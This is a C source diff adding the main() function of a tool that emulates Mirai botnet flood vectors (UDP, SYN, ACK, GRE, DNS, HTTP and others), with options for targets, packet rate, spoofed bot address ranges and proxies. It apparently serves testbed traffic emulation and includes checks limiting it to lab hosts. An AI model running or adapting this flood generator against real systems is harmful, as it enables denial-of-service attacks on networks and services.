+/* ---- main --------------------------------------------------------------- */
+
+int main(int argc, char **argv)
+{
+	static struct bot bot;
+	struct bot *b = &bot;
+	const char *vector = NULL, *targets = NULL, *sources = "1", *logp = NULL, *sump = NULL, *rxif = NULL;
+	char *proxies = NULL, a[INET_ADDRSTRLEN];
+	unsigned long long v, bots = 0;
+	uint32_t given = 0;
+	int c, err, have_seed = 0, quiet = 0;
+	struct { int id; char *val; } mo[64];
+	int nmo = 0;
+
+	b->duration = -1;
+	b->count = BOT_MAX_COUNT;
+	b->tunnel = 1;
+	b->tun_port = 5683;
+	b->hop = 100;
+	while ((c = getopt_long(argc, argv, "hq", longopts, NULL)) != -1) {
+		if (c == 'h') {
+			usage(stdout);
+			return 0;
+		}
+		if (c == 'q') {
+			quiet = 1;
+			continue;
+		}
+		if (c == '?') {
+			usage(stderr);
+			return 2;
+		}
+		if (c < O_VECTOR) { /* Mirai options: applied once the vector is known */
+			if (nmo == 64)
+				return 2;
+			mo[nmo].id = c;
+			mo[nmo++].val = optarg;
+			given |= B(c);
+			continue;
+		}
+		switch (c) {
+		case O_VECTOR: vector = optarg; break;
+		case O_TARGET: targets = optarg; break;
+		case O_DURATION:
+			b->duration = strtod(optarg, NULL);
+			if (!(b->duration > 0 && b->duration <= 3600)) {
+				fprintf(stderr, BOT_TOOL ": --duration '%s': need 0 < S <= 3600\n", optarg);
+				return 2;
+			}
+			break;
+		case O_COUNT:
+			if (num("--count", optarg, BOT_MAX_COUNT, &v) || !v)
+				return 2;
+			b->count = v;
+			break;
+		case O_RATE:
+			b->rate = strtod(optarg, NULL);
+			if (!(b->rate > 0 && b->rate <= 1e8)) {
+				fprintf(stderr, BOT_TOOL ": --rate '%s': need 0 < PPS <= 1e8\n", optarg);
+				return 2;
+			}
+			break;
+		case O_ON:
+			if (num("--on", optarg, 3600000, &v) || !v)
+				return 2;
+			b->on_ms = (uint32_t)v;
+			break;
+		case O_OFF:
+			if (num("--off", optarg, 3600000, &v) || !v)
+				return 2;
+			b->off_ms = (uint32_t)v;
+			break;
+		case O_SEED:
+			if (num("--seed", optarg, ULLONG_MAX, &v))
+				return 2;
+			b->seed = v;
+			have_seed = 1;
+			break;
+		case O_SOURCES: sources = optarg; break;
+		case O_BOTS:
+			if (num("--bots", optarg, BOT_MAX_BOTS, &bots) || !bots)
+				return 2;
+			break;
+		case O_RESOLVER:
+			if (ipv4("--resolver", optarg, &b->resolver))
+				return 2;
+			break;
+		case O_PROXY: proxies = optarg; break;
+		case O_PMODE:
+			if (!strcmp(optarg, "fixed"))
+				b->pmode = PMODE_FIXED;
+			else if (!strcmp(optarg, "spread"))
+				b->pmode = PMODE_SPREAD;
+			else if (!strcmp(optarg, "hop"))
+				b->pmode = PMODE_HOP;
+			else {
+				fprintf(stderr, BOT_TOOL ": --proxy-mode '%s': fixed, spread or hop\n", optarg);
+				return 2;
+			}
+			break;
+		case O_HOP:
+			if (num("--hop", optarg, UINT32_MAX, &v) || !v)
+				return 2;
+			b->hop = (uint32_t)v;
+			break;
+		case O_MODE:
+			if (!strcmp(optarg, "tunnel"))
+				b->tunnel = 1;
+			else if (!strcmp(optarg, "inline"))
+				b->tunnel = 0;
+			else {
+				fprintf(stderr, BOT_TOOL ": --mode '%s': tunnel or inline\n", optarg);
+				return 2;
+			}
+			break;
+		case O_TUNPORT:
+			if (num("--tun-port", optarg, 65535, &v) || !v)
+				return 2;
+			b->tun_port = (uint16_t)v;
+			break;
+		case O_FAST:
+			if (!optarg || !strcmp(optarg, "xdp"))
+				b->fast = 1;
+			else if (!strcmp(optarg, "packet"))
+				b->fast = 2;
+			else {
+				fprintf(stderr, BOT_TOOL ": --fast=%s: xdp or packet\n", optarg);
+				return 2;
+			}
+			break;
+		case O_LOG: logp = optarg; break;
+		case O_SUMMARY: sump = optarg; break;
+		case O_RXCOUNT: rxif = optarg; break;
+		}
+	}
+	if (optind < argc) {
+		fprintf(stderr, BOT_TOOL ": unexpected argument '%s' (try --help)\n", argv[optind]);
+		return 2;
+	}
+	if (b->duration < 0) {
+		fprintf(stderr, BOT_TOOL ": --duration S is required (every run is bounded in time)\n");
+		return 2;
+	}
+	signal(SIGINT, on_signal);
+	signal(SIGTERM, on_signal);
+	if (xpro_testbed_check(BOT_TOOL))
+		return 1;
+	if (rxif)
+		return rx_count(rxif, b->duration);
+	if (!vector) {
+		fprintf(stderr, BOT_TOOL ": --vector V is required (try --help)\n");
+		return 2;
+	}
+	c = vec_parse(vector);
+	if (c == VEC_NONE) {
+		char *e;
+		long id = strtol(vector, &e, 10);
+
+		if (*e || id < 0 || id > VEC_HTTP || id == 8 || !strcmp(vec_name((int)id), "?")) {
+			fprintf(stderr, BOT_TOOL ": --vector '%s': unknown (udp vse dns syn ack stomp greip greeth udpplain http)\n",
+				vector);
+			return 2;
+		}
+		c = (int)id;
+	}
+	vec_defaults(&b->o, c);
+	if (given & ~allowed[c]) {
+		for (int i = 0; i < nmo; i++)
+			if (!(allowed[c] & B(mo[i].id))) {
+				for (const struct option *lo = longopts; lo->name; lo++)
+					if (lo->val == mo[i].id)
+						fprintf(stderr, BOT_TOOL ": --%s is not an option of %s (Mirai's CNC refuses it)\n",
+							lo->name, vec_name(c));
+				return 2;
+			}
+	}
+	for (int i = 0; i < nmo; i++) {
+		struct vec_opts *o = &b->o;
+		const char *s = mo[i].val;
+		unsigned long long max = 65535;
+		int id = mo[i].id;
+
+		if (id == O_DOMAIN) {
+			if (strlen(s) > (c == VEC_HTTP ? 127 : 200)) {
+				fprintf(stderr, BOT_TOOL ": --domain: too long\n");
+				return 2;
+			}
+			snprintf(o->domain, sizeof(o->domain), "%s", s);
+			continue;
+		}
+		if (id == O_METHOD) {
+			snprintf(o->method, sizeof(o->method), "%.9s", s);
+			for (char *p = o->method; *p; p++)
+				if (*p >= 'a' && *p <= 'z')
+					*p = (char)(*p - 32);
+			continue;
+		}
+		if (id == O_POSTDATA) {
+			snprintf(o->postdata, sizeof(o->postdata), "%s", s);
+			continue;
+		}
+		if (id == O_PATH) {
+			snprintf(o->path, sizeof(o->path), "%s", s);
+			continue;
+		}
+		if (id == O_SOURCE) {
+			if (parse_source(b, s))
+				return 1;
+			continue;
+		}
+		if (id == O_TOS || id == O_TTL || (id == O_LEN && c == VEC_DNS))
+			max = 255;
+		else if (id == O_RAND || id == O_DF || (id >= O_URG && id <= O_FIN) || id == O_GCIP)
+			max = 1;
+		else if (id == O_CONNS)
+			max = 256;
+		if (!strcmp(s, "true"))
+			s = "1";
+		else if (!strcmp(s, "false"))
+			s = "0";
+		if (num("Mirai option", s, max, &v))
+			return 2;
+		switch (id) {
+		case O_LEN: o->len = (uint32_t)v; break;
+		case O_RAND: o->rand = (int)v; break;
+		case O_TOS: o->tos = (uint8_t)v; break;
+		case O_IDENT: o->ident = (uint32_t)v; break;
+		case O_TTL: o->ttl = (uint8_t)v; break;
+		case O_DF: o->df = (int)v; break;
+		case O_SPORT: o->sport = (uint32_t)v; break;
+		case O_DPORT: o->dport = (uint32_t)v; break;
+		case O_DHID: o->dhid = (uint32_t)v; break;
+		case O_URG: o->urg = (int)v; break;
+		case O_ACK: o->ack = (int)v; break;
+		case O_PSH: o->psh = (int)v; break;
+		case O_RST: o->rst = (int)v; break;
+		case O_SYN: o->syn = (int)v; break;
+		case O_FIN: o->fin = (int)v; break;
+		case O_SEQNUM: o->seqnum = (uint32_t)v; break;
+		case O_ACKNUM: o->acknum = v == VEC_RANDOM16 ? VEC_RANDOM16 : 0; break; /* Q4 */
+		case O_GCIP: o->gcip = (int)v; break;
+		case O_CONNS: o->conns = v ? (uint32_t)v : 1; break;
+		}
+	}
+	if (c == VEC_UDP && b->o.len > 1460)
+		b->o.len = 1460; /* Mirai caps udp silently */
+	if ((c == VEC_DNS || c == VEC_HTTP) && !b->o.domain[0]) {
+		fprintf(stderr, BOT_TOOL ": %s needs --domain\n", vec_name(c));
+		return 2;
+	}
+	if (c == VEC_DNS) {
+		if (!b->resolver) {
+			fprintf(stderr, BOT_TOOL ": dns needs --resolver ADDR (a testbed host)\n");
+			return 2;
+		}
+		if (xpro_check_dest(BOT_TOOL, b->resolver))
+			return 1;
+		if (!targets) { /* Mirai ignores the targets: one stream */
+			b->ntgt = 1;
+			b->tgt[0].addr = b->resolver;
+			b->tgt[0].netmask = 32;
+		}
+	}
+	if (targets) {
+		char *t = strdup(targets);
+
+		err = parse_targets(b, t);
+		free(t);
+		if (err)
+			return 1;
+	}
+	if (!b->ntgt) {
+		fprintf(stderr, BOT_TOOL ": --target ADDR[/LEN] is required\n");
+		return 2;
+	}
+	if (proxies && parse_proxies(b, proxies))
+		return 1;
+	if (b->tunnel && !b->nprox) {
+		fprintf(stderr, BOT_TOOL ": tunnel mode needs --proxy ADDR[,ADDR...] (or --mode inline)\n");
+		return 2;
+	}
+	if ((b->on_ms != 0) != (b->off_ms != 0)) {
+		fprintf(stderr, BOT_TOOL ": --on and --off go together\n");
+		return 2;
+	}
+	if (parse_sources(b, sources, bots))
+		return 1;
+	for (uint32_t i = 0; i < b->nbots; i += (b->nbots - 1 > 0 ? b->nbots - 1 : 1)) {
+		err = check_local(bot_addr(b, i));
+		if (err) {
+			fprintf(stderr, BOT_TOOL ": bot address %s is not local on this host (%s): add the range with "
+				"ip route add local CIDR dev lo\n", ntoa(bot_addr(b, i), a), strerror(-err));
+			return 1;
+		}
+		if (b->nbots == 1)
+			break;
+	}
+	if (!have_seed) {
+		struct timespec ts;
+
+		clock_gettime(CLOCK_REALTIME, &ts);
+		b->seed = (uint64_t)ts.tv_sec * 1000000007ull ^ (uint64_t)ts.tv_nsec ^ (uint64_t)getpid();
+	}
+	{
+		struct rlimit rl;
+
+		if (!getrlimit(RLIMIT_NOFILE, &rl) && rl.rlim_cur < rl.rlim_max) {
+			rl.rlim_cur = rl.rlim_max;
+			setrlimit(RLIMIT_NOFILE, &rl);
+		}
+	}
+	err = botlog_open(&b->log, logp, vec_name(c));
+	if (err) {
+		fprintf(stderr, BOT_TOOL ": --log %s: %s\n", logp, strerror(-err));
+		return 1;
+	}
+	if (vec_is_raw(c) || c == VEC_STOMP) {
+		size_t frame;
+
+		err = next_hops(b);
+		if (err)
+			return 1;
+		frame = (b->tunnel ? RAW_TUN_LEN : 0) + vec_ip_len(&b->o);
+		if (frame > (size_t)b->ifc.mtu) {
+			fprintf(stderr, BOT_TOOL ": %s packet of %zu bytes (len %u%s) exceeds the MTU %d of %s\n",
+				vec_name(c), frame, b->o.len, b->tunnel ? ", tunnel included" : "", b->ifc.mtu, b->ifc.name);
+			return 1;
+		}
+	} else if (b->tunnel && !quiet) {
+		fprintf(stderr, BOT_TOOL ": note: %s uses kernel sockets; in tunnel mode they reach the proxy only "
+			"through the device-side tunnel program (xpro-tun) on this host\n", vec_name(c));
+	}
+	if (b->fast == 1 && (!vec_is_raw(c))) {
+		fprintf(stderr, BOT_TOOL ": --fast=xdp: %s is not a raw vector (fast path: udp vse dns syn ack greip greeth)\n",
+			vec_name(c));
+		return 2;
+	}
+	b->t0_ns = raw_now_ns();
+	b->end_ns = b->t0_ns + (uint64_t)(b->duration * 1e9);
+	if (!quiet)
+		fprintf(stderr, BOT_TOOL ": %s, %u bot(s) from %s, %u target(s), %s, %s path, seed %llu\n", vec_name(c),
+			b->nbots, ntoa(bot_addr(b, 0), a), b->ntgt, b->tunnel ? "tunnel" : "inline",
+			b->fast == 1 ? "XDP live-frames" : "AF_PACKET", (unsigned long long)b->seed);
+	switch (c) {
+	case VEC_UDPPLAIN:
+		err = bot_run_udpplain(b);
+		break;
+	case VEC_STOMP:
+		err = bot_run_stomp(b);
+		break;
+	case VEC_HTTP:
+		err = bot_run_http(b);
+		break;
+	default:
+		err = b->fast == 1 ? run_fast(b) : run_raw(b);
+	}
+	botlog_close(&b->log);
+	if (botlog_summary(&b->log, sump, b->seed, botlog_now_s(), b->errors))
+		fprintf(stderr, BOT_TOOL ": --summary %s: %s\n", sump, strerror(errno));
+	if (!quiet)
+		fprintf(stderr, BOT_TOOL ": sent %llu packets (%llu bytes), %llu errors\n",
+			(unsigned long long)b->log.packets, (unsigned long long)b->log.bytes,
+			(unsigned long long)b->errors);
+	return err ? 1 : 0;
+}
